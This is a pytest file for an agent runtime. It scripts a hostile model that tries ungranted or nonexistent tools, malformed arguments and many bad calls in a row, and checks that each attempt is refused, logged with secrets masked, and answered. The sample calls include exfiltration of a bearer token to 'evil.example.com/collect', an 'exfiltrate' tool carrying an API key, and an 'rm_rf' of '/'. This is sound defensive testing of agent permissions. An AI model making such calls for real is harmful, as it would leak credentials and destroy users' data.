"""Attack corpus: every tool call the model attempts is recorded and answered (issue 17, item 2).

A hostile or confused model asks for tools it was not granted, tools that do not exist, dotted
names, the granted tool with arguments its schema refuses, arguments that are not JSON at all
(the real ChatOpenAI against a local OpenAI-compatible server turns those into
``invalid_tool_calls``), secrets in its arguments, and many bad calls in a row. LangChain stops
most of these before MeshAgent's code runs. Whatever stops an attempt, the ledger gets a
``tool_refused`` or ``tool_failed`` event naming it, with its arguments (secrets masked) and the
reason, and the model gets a ToolMessage it can read, so the loop goes on.
"""

from __future__ import annotations

import json
import textwrap
from typing import Any

import pytest
from langchain_core.messages import AIMessage, ToolMessage

from meshagent.actions import (
    Action,
    ActionArgs,
    ActionGrant,
    ActionResult,
    Connector,
    Registry,
)
from meshagent.actions import default_registry as installed
from meshagent.agentfile.loader import parse_agent
from meshagent.config import Config
from meshagent.models import ScriptedChatModel
from meshagent.runtime.runner import Runtime
from tests.ledger.conftest import pg_schema_url, pg_shared  # noqa: F401
from tests.runtime.conftest import agent, make_runtime, run
from tests.runtime.openai_server import Completion, OpenAIServer, answer, usage

GATED = """
    name: gated
    owner: alice@example.com
    team: payments
    model: scripted
    instructions: Post one short note to #payments, then say what you did.
    tools:
      - slack.post_message: {channels: ["#payments"]}
      - http.get: {url_prefixes: ["http://127.0.0.1:9/status/"]}
    value: {tag: toil-reduction, minutes_saved: 1}
"""
TOOLS = "http_get, slack_post_message"  # what the model is told exists, in this order
NOTE = {"channel": "#payments", "text": "Deploy done."}


def scripted(*calls: dict[str, Any], then: str = "Done.") -> ScriptedChatModel:
    """A model that makes each call in its own turn, then answers ``then``."""
    turns: list[Any] = [{"tool_calls": [call]} for call in calls]
    return ScriptedChatModel(responses=[*turns, then])


def told(model: ScriptedChatModel, call_id: str) -> ToolMessage:
    """The ToolMessage that answered the call ``call_id`` in what the model was sent next."""
    for messages in model.calls:
        for message in messages:
            if isinstance(message, ToolMessage) and message.tool_call_id == call_id:
                return message
    raise AssertionError(f"the model was never told what became of its call {call_id}")


def events(ledger, result) -> list[tuple[str, str, str]]:
    return [(e.kind, e.name, e.detail or "") for e in ledger.events(result.run_id)]


def arguments_of(detail: str) -> Any:
    """The arguments an event recorded, parsed back (they close its detail)."""
    head, found, shown = detail.rpartition("; arguments ")
    assert found, f"no arguments in {detail!r}"
    return json.loads(shown)


# -- names: ungranted, nonexistent, dotted ---------------------------------------------------


@pytest.mark.parametrize(
    ("name", "action", "reason", "message"),
    [
        pytest.param(
            "jira_add_comment",
            "jira.add_comment",
            "jira.add_comment is not granted to this agent",
            "Refused: jira.add_comment is not granted to this agent; do not retry it. "
            f"The tools are: {TOOLS}.",
            id="ungranted",
        ),
        pytest.param(
            "jira.add_comment",
            "jira.add_comment",
            "jira.add_comment is not granted to this agent",
            "Refused: jira.add_comment is not granted to this agent; do not retry it. "
            f"The tools are: {TOOLS}.",
            id="ungranted-dotted",
        ),
        pytest.param(
            "delete_all_issues",
            "delete_all_issues",
            "there is no tool named 'delete_all_issues'",
            f"Error: there is no tool named 'delete_all_issues'. The tools are: {TOOLS}.",
            id="nonexistent",
        ),
        pytest.param(
            "slack.post_message",
            "slack.post_message",
            "there is no tool named 'slack.post_message'",
            "Error: there is no tool named 'slack.post_message' (tool names have no dots: "
            f"call slack_post_message). The tools are: {TOOLS}.",
            id="dotted-granted",
        ),
    ],
)
def test_a_call_to_a_tool_the_agent_lacks_is_refused_recorded_and_answered(
    sandbox, ledger, name, action, reason, message
):
    arguments = {"key": "PAY-3", "body": "closing this"}
    model = scripted({"name": name, "args": arguments, "id": "bad-1"})
    result = run(make_runtime(sandbox, ledger, model), agent(GATED))

    assert result.status == "ok", result.error
    assert result.answer == "Done."  # the loop went on after the refusal
    assert sandbox.jira.writes() == [] and sandbox.slack.writes() == []
    [(kind, recorded, detail)] = events(ledger, result)
    assert (kind, recorded) == ("tool_refused", action)
    assert detail.startswith(reason)
    assert arguments_of(detail) == arguments
    answer_ = told(model, "bad-1")
    assert answer_.content == message
    assert answer_.status == "error"
    assert ledger.entry(result.run_id)["tool_calls"] == 0  # refused: nothing ran


def test_an_ungranted_action_is_a_refusal_of_the_run(sandbox, ledger):
    model = scripted({"name": "slack_dm", "args": {"user": "U1", "text": "hi"}, "id": "dm"})
    result = run(make_runtime(sandbox, ledger, model), agent(GATED))
    [refusal] = result.refusals
    assert refusal.action == "slack.dm"
    assert refusal.reason == "slack.dm is not granted to this agent"
    assert refusal.arguments == {"user": "U1", "text": "hi"}


def test_a_hostile_tool_name_is_cut_and_made_printable(sandbox, ledger):
    name = "steal\x00\x1b[31m" + "x" * 10_000
    model = scripted({"name": name, "args": {}, "id": "long"})
    result = run(make_runtime(sandbox, ledger, model), agent(GATED))

    assert result.status == "ok", result.error
    [(kind, recorded, detail)] = events(ledger, result)
    assert kind == "tool_refused"
    assert len(recorded) <= 200 and recorded.isprintable()
    assert recorded.startswith("steal\\x00\\x1b[31mxxx")
    assert len(detail) <= 2000
    content = told(model, "long").content
    assert content.startswith("Error: there is no tool named 'steal\\x00\\x1b[31mxxx")
    assert len(content) < 400 and content.endswith(f"The tools are: {TOOLS}.")


# -- arguments the tool's schema refuses ------------------------------------------------------


@pytest.mark.parametrize(
    ("arguments", "reason"),
    [
        pytest.param(
            NOTE | {"as_user": True}, "as_user: Extra inputs are not permitted", id="extra"
        ),
        pytest.param({"text": "Deploy done."}, "channel: Field required", id="missing"),
        pytest.param(
            {"channel": "#payments", "text": {"nested": "object"}},
            "text: Input should be a valid string",
            id="wrong-type",
        ),
        pytest.param(
            {"channel": "#payments"}, "Value error, a message needs text or blocks", id="no-text"
        ),
    ],
)
def test_arguments_the_schema_refuses_fail_the_call_not_the_run(sandbox, ledger, arguments, reason):
    model = scripted(
        {"name": "slack_post_message", "args": arguments, "id": "bad-args"},
        {"name": "slack_post_message", "args": NOTE, "id": "good"},
    )
    result = run(make_runtime(sandbox, ledger, model), agent(GATED))

    assert result.status == "ok", result.error
    assert [p.text for p in sandbox.slack.posted_to("#payments")][-1:] == ["Deploy done."]
    assert len(sandbox.slack.writes()) == 1  # only the corrected call wrote
    (kind, name, detail), second = events(ledger, result)
    assert (kind, name) == ("tool_failed", "slack.post_message")
    assert detail.startswith(f"invalid arguments: {reason}")
    assert arguments_of(detail) == arguments
    assert second[:2] == ("tool_call", "slack.post_message")
    content = told(model, "bad-args").content
    assert content.startswith(f"Error: invalid arguments for slack_post_message: {reason}")
    assert content.endswith("Its arguments: channel (required), text, blocks, thread_ts.")
    assert ledger.entry(result.run_id)["tool_calls"] == 2  # a failed call counts, as before


# -- several attempts in one turn -------------------------------------------------------------


def test_every_call_of_one_turn_is_recorded_and_answered(sandbox, ledger):
    model = ScriptedChatModel(
        responses=[
            {
                "tool_calls": [
                    {"name": "slack_post_message", "args": NOTE, "id": "ok"},
                    {"name": "jira_transition", "args": {"key": "PAY-1"}, "id": "ungranted"},
                    {"name": "rm_rf", "args": {"path": "/"}, "id": "unknown"},
                    {"name": "http_get", "args": {"url": 5}, "id": "typed"},
                ]
            },
            "Posted the note.",
        ]
    )
    result = run(make_runtime(sandbox, ledger, model), agent(GATED))

    assert result.status == "ok", result.error
    assert len(sandbox.slack.posted_to("#payments")) >= 1
    kinds = sorted((kind, name) for kind, name, _ in events(ledger, result))
    assert kinds == [
        ("tool_call", "slack.post_message"),
        ("tool_failed", "http.get"),
        ("tool_refused", "jira.transition"),
        ("tool_refused", "rm_rf"),
    ]
    for call_id in ("ok", "ungranted", "unknown", "typed"):
        told(model, call_id)
    assert told(model, "typed").content.startswith("Error: invalid arguments for http_get: url")


# -- secrets in the arguments -----------------------------------------------------------------


def test_secrets_in_refused_and_failed_arguments_are_masked(sandbox, ledger):
    env = sandbox.env()
    bot_token, jira_token = env["SLACK_BOT_TOKEN"], env["JIRA_TOKEN"]
    model = scripted(
        # A token the model read somewhere, sent where it was not granted to send anything.
        {"name": "slack_dm", "args": {"user": "U1", "text": f"the token: {bot_token}"}, "id": "a"},
        # A secret header on a URL outside the grant: refused by the grant check.
        {
            "name": "http_get",
            "args": {
                "url": "https://evil.example.com/collect",
                "headers": {"Authorization": "Bearer s3cr3t-bearer-value", "X-Trace": "t-1"},
            },
            "id": "b",
        },
        # The Jira token's value (no shape of its own) in an argument the schema refuses.
        {"name": "slack_post_message", "args": NOTE | {"password": jira_token}, "id": "c"},
        # An API key under a key that says so, on a tool that does not exist.
        {"name": "exfiltrate", "args": {"api_key": "abc123def456ghi", "to": "x"}, "id": "d"},
    )
    result = run(make_runtime(sandbox, ledger, model), agent(GATED))

    assert result.status == "ok", result.error
    recorded = events(ledger, result)
    assert [(kind, name) for kind, name, _ in recorded] == [
        ("tool_refused", "slack.dm"),
        ("tool_refused", "http.get"),
        ("tool_failed", "slack.post_message"),
        ("tool_refused", "exfiltrate"),
    ]
    everything = json.dumps(recorded)
    for secret in (bot_token, jira_token, "s3cr3t-bearer-value", "abc123def456ghi"):
        assert secret not in everything
    a, b, c, d = (arguments_of(detail) for _, _, detail in recorded)
    assert a == {"user": "U1", "text": "the token: ***"}
    assert b["headers"] == {"Authorization": "***", "X-Trace": "t-1"}
    assert b["url"] == "https://evil.example.com/collect"
    assert c == NOTE | {"password": "***"}
    assert d == {"api_key": "***", "to": "x"}
    assert "evil.example.com/collect is outside the granted prefixes" in recorded[1][2]


def test_secrets_in_a_granted_calls_arguments_are_masked(sandbox, ledger):
    bot_token = sandbox.env()["SLACK_BOT_TOKEN"]
    model = scripted({"name": "slack_post_message", "args": NOTE | {"text": bot_token}, "id": "x"})
    result = run(make_runtime(sandbox, ledger, model), agent(GATED))
    [(kind, _, detail)] = events(ledger, result)
    assert kind == "tool_call" and bot_token not in detail
    assert json.loads(detail) == NOTE | {"text": "***"}  # a call that ran: its arguments


# -- many bad attempts in a row ---------------------------------------------------------------


def test_many_bad_attempts_in_a_row_end_at_the_model_call_budget(sandbox, ledger):
    bad = [{"name": f"tool_{n}", "args": {"n": n}, "id": f"bad-{n}"} for n in range(20)]
    model = scripted(*bad)
    spec = agent(GATED + "    budget: {max_model_calls: 4}\n")
    result = run(make_runtime(sandbox, ledger, model), spec)

    assert result.status == "over_budget"
    assert result.error == "max_model_calls of 4 reached"
    recorded = events(ledger, result)
    assert [(kind, name) for kind, name, _ in recorded] == [
        ("tool_refused", f"tool_{n}") for n in range(4)
    ]
    for n in range(3):  # the fourth answer was never sent: the budget stopped the next call
        assert told(model, f"bad-{n}").content.startswith(
            f"Error: there is no tool named 'tool_{n}'"
        )
    entry = ledger.entry(result.run_id)
    assert (entry["model_calls"], entry["tool_calls"], entry["status"]) == (4, 0, "over_budget")


# -- an exception the tool did not expect -----------------------------------------------------


class _Args(ActionArgs):
    key: str


async def _explode(context, args, grant) -> ActionResult:
    raise KeyError("errorMessages")  # what the jira client raises on some answers


def _registry_with_a_broken_action() -> Registry:
    registry = Registry()
    for connector in installed().connectors.values():
        registry.register(connector)
    broken = Connector(
        name="broken",
        description="A connector whose client library raises what it should not.",
        actions=(
            Action(
                name="broken.read",
                kind="read",
                description="Reads a thing.",
                args=_Args,
                grant=ActionGrant,
                handler=_explode,
            ),
        ),
    )
    registry.register(broken)
    return registry


def test_an_unexpected_exception_in_a_tool_fails_the_call_not_the_run(sandbox, ledger):
    model = scripted({"name": "broken_read", "args": {"key": "PAY-1"}, "id": "boom"})
    config = Config(ledger_url=ledger.url)
    runtime = Runtime(
        config,
        ledger=ledger,
        env=sandbox.env(),
        chat_model=model,
        registry=_registry_with_a_broken_action(),
        retry_base_seconds=0.01,
    )
    text = GATED.replace("    tools:\n", "    tools:\n      - broken.read: {}\n")
    spec = parse_agent(textwrap.dedent(text), registry=runtime.registry)
    result = run(runtime, spec)

    assert result.status == "ok", result.error
    [(kind, name, detail)] = events(ledger, result)
    assert (kind, name) == ("tool_failed", "broken.read")
    assert "KeyError: 'errorMessages'" in detail
    assert arguments_of(detail) == {"key": "PAY-1"}
    content = told(model, "boom").content
    assert content.startswith("Error: ") and "KeyError: 'errorMessages'" in content


# -- malformed JSON from a real provider client ------------------------------------------------


@pytest.fixture
def openai_server():
    with OpenAIServer() as server:
        yield server


def raw_calls(*calls: tuple[str, str, str], finish: str = "tool_calls") -> Completion:
    """An assistant turn whose tool calls carry ``arguments`` exactly as given (maybe not JSON);
    ``finish="length"`` when the output was cut at its token limit."""
    asked = [
        {"id": call_id, "type": "function", "function": {"name": name, "arguments": arguments}}
        for call_id, name, arguments in calls
    ]
    message = {"role": "assistant", "content": None, "tool_calls": asked}
    return Completion(message, finish, usage(500, 20))


def sent_for(server: OpenAIServer, call_id: str) -> dict[str, Any]:
    """The tool message answering ``call_id`` in the requests the server got."""
    for request in server.requests:
        for message in request["messages"]:
            if message.get("role") == "tool" and message.get("tool_call_id") == call_id:
                return message
    raise AssertionError(f"no request answered the call {call_id}")


def on_openai(server, sandbox, ledger, spec_text: str = GATED):
    spec = agent(spec_text.replace("model: scripted", "model: openai:gpt-4o-mini"))
    return run(make_runtime(sandbox, ledger, server.chat_model()), spec)


TRUNCATED = '{"channel": "#payments", "text": "Deploy do'


def test_malformed_json_arguments_are_recorded_and_the_loop_goes_on(openai_server, sandbox, ledger):
    openai_server.script(
        raw_calls(("call_bad", "slack_post_message", TRUNCATED)),
        raw_calls(("call_good", "slack_post_message", json.dumps(NOTE))),
        answer("Posted the note.", usage(600, 10)),
    )
    result = on_openai(openai_server, sandbox, ledger)

    assert result.status == "ok", result.error
    assert result.answer == "Posted the note."
    assert [p.text for p in sandbox.slack.posted_to("#payments")][-1:] == ["Deploy done."]
    (kind, name, detail), (ok_kind, _, _) = events(ledger, result)
    assert (kind, name, ok_kind) == ("tool_failed", "slack.post_message", "tool_call")
    assert detail.startswith("arguments are not valid JSON")
    assert detail.endswith(f"; arguments {json.dumps(TRUNCATED)}")
    message = sent_for(openai_server, "call_bad")
    assert message["content"].startswith(
        "Error: the arguments of your call to slack_post_message are not valid JSON"
    )
    assert "send them again as one JSON object" in message["content"]
    entry = ledger.entry(result.run_id)
    assert (entry["model_calls"], entry["tool_calls"]) == (3, 2)


def test_a_malformed_call_beside_a_good_one_is_answered_as_its_own(openai_server, sandbox, ledger):
    openai_server.script(
        raw_calls(
            ("call_good", "slack_post_message", json.dumps(NOTE)),
            ("call_bad", "slack_post_message", "{'channel': '#payments'}"),
        ),
        answer("Posted.", usage(600, 10)),
    )
    result = on_openai(openai_server, sandbox, ledger)

    assert result.status == "ok", result.error
    kinds = sorted((kind, name) for kind, name, _ in events(ledger, result))
    assert kinds == [("tool_call", "slack.post_message"), ("tool_failed", "slack.post_message")]
    assert sent_for(openai_server, "call_bad")["content"].startswith(
        "Error: the arguments of your call to slack_post_message are not valid JSON"
    )
    assert not sent_for(openai_server, "call_good")["content"].startswith("Error")


def test_a_malformed_call_to_a_tool_the_agent_lacks_is_refused(openai_server, sandbox, ledger):
    openai_server.script(
        raw_calls(("call_x", "jira_add_comment", '{"key": "OPS-1", "body": ')),
        answer("Nothing to do.", usage(600, 10)),
    )
    result = on_openai(openai_server, sandbox, ledger)

    assert result.status == "ok", result.error
    [(kind, name, detail)] = events(ledger, result)
    assert (kind, name) == ("tool_refused", "jira.add_comment")
    assert detail.startswith("jira.add_comment is not granted to this agent")
    assert sent_for(openai_server, "call_x")["content"].startswith("Refused: jira.add_comment")


def test_secrets_in_malformed_arguments_are_masked(openai_server, sandbox, ledger):
    token = sandbox.env()["SLACK_BOT_TOKEN"]
    raw = f'{{"channel": "#payments", "text": "{token}", "api_key": "k-9f8e7d6c5b4a"'
    openai_server.script(
        raw_calls(("call_s", "slack_post_message", raw)), answer("Stopped.", usage(600, 10))
    )
    result = on_openai(openai_server, sandbox, ledger)

    [(kind, _, detail)] = events(ledger, result)
    assert kind == "tool_failed"
    assert token not in detail and "k-9f8e7d6c5b4a" not in detail
    assert '\\"api_key\\": \\"***\\"' in detail and '\\"text\\": \\"***\\"' in detail


def test_malformed_calls_in_a_row_end_at_the_model_call_budget(openai_server, sandbox, ledger):
    openai_server.script(
        *(raw_calls((f"call_{n}", "slack_post_message", "{")) for n in range(10)),
        answer("never reached", usage(600, 10)),
    )
    spec = GATED + "    budget: {max_model_calls: 3}\n"
    result = on_openai(openai_server, sandbox, ledger, spec)

    assert result.status == "over_budget" and result.error == "max_model_calls of 3 reached"
    assert len(openai_server.requests) == 3
    assert [kind for kind, _, _ in events(ledger, result)] == ["tool_failed"] * 3
    for n in range(2):
        assert sent_for(openai_server, f"call_{n}")["content"].startswith("Error: the arguments")


def test_malformed_calls_in_a_row_without_a_budget_end_the_run(openai_server, sandbox, ledger):
    openai_server.script(
        *(raw_calls((f"call_{n}", "slack_post_message", "{")) for n in range(30)),
        answer("never reached", usage(600, 10)),
    )
    result = on_openai(openai_server, sandbox, ledger)

    assert result.status == "failed"
    assert result.error == (
        "the model sent tool calls with malformed arguments 5 times in a row; stopped"
    )
    assert len(openai_server.requests) == 5
    assert [kind for kind, _, _ in events(ledger, result)] == ["tool_failed"] * 5


def test_invalid_calls_from_any_provider_are_handled_alike(sandbox, ledger):
    """A provider package other than OpenAI's hands over invalid_tool_calls the same way."""
    turn = AIMessage(
        content="",
        invalid_tool_calls=[
            {
                "type": "invalid_tool_call",
                "name": "slack_post_message",
                "args": '{"channel": "#payments"',
                "id": "inv-1",
                "error": "Unterminated object",
            }
        ],
    )
    model = ScriptedChatModel(responses=[turn, "Gave up."])
    result = run(make_runtime(sandbox, ledger, model), agent(GATED))

    assert result.status == "ok", result.error
    [(kind, name, detail)] = events(ledger, result)
    assert (kind, name) == ("tool_failed", "slack.post_message")
    assert detail.startswith("arguments are not valid JSON: Expecting ',' delimiter")
    assert told(model, "inv-1").content.startswith(
        "Error: the arguments of your call to slack_post_message are not valid JSON"
    )


# -- where the wrapper sits --------------------------------------------------------------------


def test_the_wrapper_sits_on_langgraphs_tool_node(sandbox, ledger):
    """The cheap way (no middleware) works with the installed LangGraph; if an upgrade moves
    the attribute, agents still work through middleware, but this test says so."""
    from meshagent.runtime.agent_loop import build_agent

    runtime = make_runtime(sandbox, ledger, scripted())
    spec = agent(GATED)
    loop = build_agent(runtime, spec, runtime._chat_model("scripted"))
    assert loop.graph.nodes["tools"].bound._awrap_tool_call == loop.attempts.wrap


def test_through_middleware_every_attempt_is_handled_alike(sandbox, ledger, monkeypatch):
    import meshagent.runtime.agent_loop

    monkeypatch.setattr(meshagent.runtime.agent_loop, "_wrap_tool_node", lambda graph, wrap: False)
    model = ScriptedChatModel(
        responses=[
            AIMessage(
                content="",
                tool_calls=[{"name": "nope", "args": {}, "id": "n", "type": "tool_call"}],
                invalid_tool_calls=[
                    {
                        "type": "invalid_tool_call",
                        "name": "slack_post_message",
                        "args": "{",
                        "id": "m",
                        "error": None,
                    }
                ],
            ),
            {"tool_calls": [{"name": "slack_post_message", "args": {"x": 1}, "id": "x"}]},
            "Done.",
        ]
    )
    result = run(make_runtime(sandbox, ledger, model), agent(GATED))

    assert result.status == "ok", result.error
    kinds = [(kind, name) for kind, name, _ in events(ledger, result)]
    assert kinds == [
        ("tool_refused", "nope"),
        ("tool_failed", "slack.post_message"),
        ("tool_failed", "slack.post_message"),
    ]
    assert told(model, "n").content.startswith("Error: there is no tool named 'nope'")
    assert told(model, "m").content.startswith("Error: the arguments of your call")
    assert told(model, "x").content.startswith("Error: invalid arguments for slack_post_message")


# -- what a hostile model sends reaches PostgreSQL intact ---------------------------------------


@pytest.mark.postgres
def test_hostile_names_and_arguments_close_the_entry_on_postgresql(
    sandbox,
    pg_schema_url,  # noqa: F811
):
    from meshagent.ledger import Ledger

    model = scripted(
        {"name": "\x00" + "n" * 5_000, "args": {"a\x00": "b\x00" * 3_000}, "id": "nul"},
        {"name": "slack_post_message", "args": NOTE | {"text": "Deploy\x00done"}, "id": "nul2"},
    )
    with Ledger.open(pg_schema_url, retry_for=10.0) as ledger:
        result = run(make_runtime(sandbox, ledger, model), agent(GATED))
        assert result.status == "ok", result.error
        assert ledger.entry(result.run_id)["status"] == "ok"
        recorded = events(ledger, result)
    assert [kind for kind, _, _ in recorded] == ["tool_refused", "tool_call"]
    assert recorded[0][1].startswith("\\x00nnn") and len(recorded[0][1]) <= 200


def test_good_and_malformed_turns_taking_turns_stay_within_the_loops_limit(sandbox, ledger):
    """Each malformed turn enters the graph again; together they keep to its recursion limit
    (the runtime's 100 steps: 50 model calls), budget or none."""
    malformed = AIMessage(
        content="",
        invalid_tool_calls=[
            {"type": "invalid_tool_call", "name": "slack_post_message", "args": "{", "id": "m"}
        ],
    )
    good = {"tool_calls": [{"name": "slack_post_message", "args": NOTE}]}
    model = ScriptedChatModel(responses=[good, malformed] * 40 + ["never reached"])
    result = run(make_runtime(sandbox, ledger, model), agent(GATED))

    assert result.status == "failed"
    assert result.error == "the tool loop reached its limit of 100 steps"
    assert len(model.calls) == 50
    assert ledger.entry(result.run_id)["model_calls"] == 50


def test_a_huge_argument_is_masked_and_cut_quickly(sandbox, ledger):
    import time

    token = sandbox.env()["SLACK_BOT_TOKEN"]
    text = "a." * 50_000 + token  # a word boundary at every dot: no regex may go quadratic
    model = scripted({"name": "nope", "args": {"text": text, "url": "x://u:" + text}, "id": "h"})
    started = time.perf_counter()
    result = run(make_runtime(sandbox, ledger, model), agent(GATED))

    assert time.perf_counter() - started < 5
    [(kind, _, detail)] = events(ledger, result)
    assert kind == "tool_refused" and token not in detail and len(detail) <= 2000


@pytest.mark.parametrize("streaming", [False, True], ids=["whole", "streamed"])
def test_a_dotted_and_a_cut_short_call_through_the_real_client(
    openai_server, sandbox, ledger, streaming
):
    """A call cut at the output token limit is never made: whole, its arguments are not JSON;
    streamed, LangChain completes the partial JSON ('Deploy do"}'), which must not be posted."""
    openai_server.script(
        raw_calls(("call_dot", "slack.post_message", json.dumps(NOTE))),
        raw_calls(("call_cut", "slack_post_message", TRUNCATED), finish="length"),
        answer("Gave up.", usage(600, 10)),
    )
    spec = agent(GATED.replace("model: scripted", "model: openai:gpt-4o-mini"))
    model = openai_server.chat_model(streaming=streaming)
    result = run(make_runtime(sandbox, ledger, model), spec)

    assert result.status == "ok", result.error
    assert sandbox.slack.writes() == []
    (dot_kind, dot_name, _), (cut_kind, cut_name, cut_detail) = events(ledger, result)
    assert (dot_kind, dot_name) == ("tool_refused", "slack.post_message")
    assert (cut_kind, cut_name) == ("tool_failed", "slack.post_message")
    assert sent_for(openai_server, "call_dot")["content"] == (
        "Error: there is no tool named 'slack.post_message' (tool names have no dots: "
        f"call slack_post_message). The tools are: {TOOLS}."
    )
    cut = sent_for(openai_server, "call_cut")["content"]
    if streaming:
        assert cut_detail.startswith("the model's output was cut at its token limit")
        assert arguments_of(cut_detail) == {"channel": "#payments", "text": "Deploy do"}
        assert cut == (
            "Error: your turn was cut at the output token limit before the arguments of "
            "slack_post_message were complete; the call was not made. Send it again, shorter."
        )
    else:
        assert cut_detail.startswith("arguments are not valid JSON: Unterminated string")
        assert cut.startswith(
            "Error: the arguments of your call to slack_post_message are not valid JSON "
            "(Unterminated string starting at: line 1 column 34 (char 33))"
        )


@pytest.mark.parametrize("streaming", [False, True], ids=["whole", "streamed"])
@pytest.mark.parametrize("arguments", ["[1, 2]", '"x"', "3"])
def test_arguments_that_are_json_but_no_object_fail_the_call_not_the_run(
    openai_server, sandbox, ledger, arguments, streaming
):
    """langchain-openai builds the AIMessage of a whole response with the parsed arguments as
    they are, and pydantic refuses a list or a string there: the run failed with no tool event,
    and the tokens of that response were never recorded."""
    openai_server.script(
        raw_calls(("call_list", "slack_post_message", arguments)),
        answer("Gave up.", usage(600, 10)),
    )
    spec = agent(GATED.replace("model: scripted", "model: openai:gpt-4o-mini"))
    model = openai_server.chat_model(streaming=streaming, stream_usage=streaming)
    result = run(make_runtime(sandbox, ledger, model), spec)

    assert result.status == "ok", result.error
    assert sandbox.slack.writes() == []
    [(kind, name, detail)] = events(ledger, result)
    assert (kind, name) == ("tool_failed", "slack.post_message")
    kind_of = type(json.loads(arguments)).__name__
    assert f"a JSON {kind_of}, not an object" in detail
    assert arguments_of(detail) == arguments
    assert sent_for(openai_server, "call_list")["content"].startswith(
        "Error: the arguments of your call to slack_post_message are not"
    )
    entry = ledger.entry(result.run_id)
    assert (entry["model_calls"], entry["input_tokens"], entry["output_tokens"]) == (2, 1100, 30)


def test_a_response_no_client_can_read_fails_the_run_saying_so_with_its_tokens(sandbox, ledger):
    """A client other than langchain-openai's that cannot build the message of a response it
    received: the run fails saying why, and the prompt it sent is counted, estimated."""

    class Unreadable(ScriptedChatModel):
        async def _agenerate(self, messages, stop=None, run_manager=None, **kwargs):
            AIMessage(content="", tool_calls=[{"name": "x", "args": [1, 2], "id": "c"}])

    result = run(make_runtime(sandbox, ledger, Unreadable(responses=[])), agent(GATED))

    assert result.status == "failed"
    assert result.error.startswith(
        "the model's response could not be read: ValidationError: 1 validation error for AIMessage"
    )
    entry = ledger.entry(result.run_id)
    assert entry["model_calls"] == 1 and entry["input_tokens"] > 0
